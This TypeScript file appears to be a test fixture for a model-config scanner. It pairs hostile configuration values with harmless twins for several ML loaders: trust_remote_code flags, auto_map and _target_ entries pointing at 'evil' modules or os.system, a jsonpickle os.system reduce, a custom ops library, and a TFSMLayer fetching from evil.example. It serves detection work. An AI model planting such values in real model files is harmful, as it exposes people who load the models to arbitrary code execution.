/** What is planted in a configuration, and the harmless words in the same place of its twin. */
export interface Plant {
  readonly name: string;
  /** The file that the loader looks for, when it looks for one name only. */
  readonly file?: string;
  /** Whether the value is the whole document. */
  readonly isWhole?: boolean;
  readonly hostile: unknown;
  readonly benign: unknown;
}

const layer = (class_name: string, module: string, config: unknown = { units: 2 }) => ({
  layers: [{ module, class_name, config, registered_name: null }],
});

/** Each makes one loader import or run code; the loader takes its twin for settings. */
export const PLANTS: readonly Plant[] = [
  {
    name: 'auto_map',
    hostile: { auto_map: { AutoConfig: 'evil.Config' } },
    benign: { auto_map: {} },
  },
  {
    name: 'auto_map of a tokenizer',
    hostile: { auto_map: ['evil.Slow', null] },
    benign: { auto_map: null },
  },
  {
    name: 'auto_map of another repository',
    hostile: { auto_map: { AutoModel: 'evil/repo--modeling.Model' } },
    benign: { auto_map: { description: 'maps classes. To nothing' } },
  },
  { name: 'trust', hostile: { trust_remote_code: true }, benign: { trust_remote_code: false } },
  {
    name: 'trust as a number',
    hostile: { trust_remote_code: 1 },
    benign: { trust_remote_code: 0 },
  },
  {
    name: 'trust as a text',
    hostile: { trust_remote_code: 'True' },
    benign: { trust_remote_code: null },
  },
  {
    name: 'trust in another spelling',
    hostile: { 'trust-remote-code': true },
    benign: { 'trust-remote-code': false },
  },
  {
    name: 'keypoint detector',
    hostile: {
      keypoint_detector_config: {
        auto_map: { AutoConfig: 'evil.Config' },
        trust_remote_code: true,
      },
    },
    benign: { keypoint_detector_config: { model_type: 'superpoint', trust_remote_code: false } },
  },
  {
    name: 'pipelines',
    hostile: {
      custom_pipelines: { 'pair-classification': { impl: 'pair.Pipeline', pt: ['AutoModel'] } },
    },
    benign: { custom_pipelines: {} },
  },
  {
    name: 'internal attention',
    hostile: { _attn_implementation_internal: 'evil/repo' },
    benign: { _attn_implementation_internal: 'sdpa' },
  },
  {
    name: 'attention',
    hostile: { attn_implementation: 'evil/repo@v1:attention' },
    benign: { attn_implementation: 'flash_attention_2' },
  },
  {
    name: 'attention by part',
    hostile: { _attn_implementation: { text_config: 'evil/repo', '': 'sdpa' } },
    benign: { _attn_implementation: { text_config: 'eager', '': 'sdpa' } },
  },
  {
    name: 'class of another repository',
    hostile: { tokenizer_class: 'evil--tok.Tokenizer' },
    benign: { tokenizer_class: 'LlamaTokenizerFast' },
  },
  {
    name: 'quantisation',
    hostile: { quantization_config: { quant_method: 'gptq', kernel_module: 'evil.kernels' } },
    benign: {
      quantization_config: {
        quant_method: 'gptq',
        modules_to_not_convert: ['lm_head', 'model.norm'],
      },
    },
  },
  {
    name: 'Lambda',
    hostile: layer('Lambda', 'keras.layers', { function: ['4wEAAAA=', null, null] }),
    benign: layer('Dense', 'keras.layers'),
  },
  {
    name: 'lambda',
    hostile: { activation: { class_name: '__lambda__', config: { value: '4wEAAAA=' } } },
    benign: { activation: { class_name: 'function', config: 'relu', module: 'builtins' } },
  },
  {
    name: 'module of a layer',
    hostile: layer('Evil', 'evil.layers'),
    benign: layer('Embedding', 'keras_hub.src.layers'),
  },
  {
    name: 'TFSMLayer',
    hostile: layer('TFSMLayer', 'keras.layers', { filepath: 'https://evil.example/model' }),
    benign: layer('InputLayer', 'keras.layers'),
  },
  {
    name: 'target',
    hostile: { preprocessor: { _target_: 'os.system', command: 'id' } },
    benign: {
      preprocessor: { _target_: 'nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor' },
    },
  },
  {
    name: 'target of a stranger',
    hostile: { optim: { _target_: 'evil.Optimiser' } },
    benign: { optim: { _target_: 'torch.optim.AdamW', lr: 0.001 } },
  },
  {
    name: 'pipeline class',
    hostile: { _class_name: ['my_pipeline', 'MyPipeline'] },
    benign: { _class_name: 'StableDiffusionPipeline' },
  },
  {
    name: 'library of an adapter',
    hostile: { auto_mapping: { base_model_class: 'Model', parent_library: 'evil.module' } },
    benign: {
      auto_mapping: { base_model_class: 'LlamaModel', parent_library: 'transformers.models.llama' },
    },
  },
  {
    name: 'activation',
    hostile: { activation_function: 'evil.Activation' },
    benign: { activation_function: 'torch.nn.modules.activation.Tanh' },
  },
  {
    name: 'operators',
    hostile: { session_options: { custom_ops_library: 'libevil.so' } },
    benign: { session_options: { provider_options: [] } },
  },
  {
    name: 'Python object',
    hostile: { scaler: { 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] } },
    benign: { scaler: { 'py-version': 'evil.Object' } },
  },
  {
    name: 'modules',
    file: 'modules.json',
    isWhole: true,
    hostile: [{ idx: 0, name: '0', path: '', type: 'evil.Transformer' }],
    benign: [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }],
  },
  {
    name: 'part of a pipeline',
    file: 'model_index.json',
    isWhole: true,
    hostile: {
      _class_name: 'StableDiffusionPipeline',
      unet: ['my_unet', 'MyUNet'],
      vae: ['diffusers', 'Vae'],
    },
    benign: {
      _class_name: 'StableDiffusionPipeline',
      safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
      tokenizer: ['transformers', 'CLIPTokenizer'],
      feature_extractor: [null, null],
    },
  },
];
